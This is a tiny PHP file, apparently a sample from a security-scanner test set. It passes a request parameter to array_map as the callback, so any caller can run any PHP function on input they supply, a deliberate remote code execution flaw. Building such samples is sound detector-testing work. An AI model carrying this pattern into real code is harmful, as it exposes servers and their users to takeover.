<?php
// Test sample: array_map with a request-provided callable.
array_map($_GET['f'], array($_GET['a']));
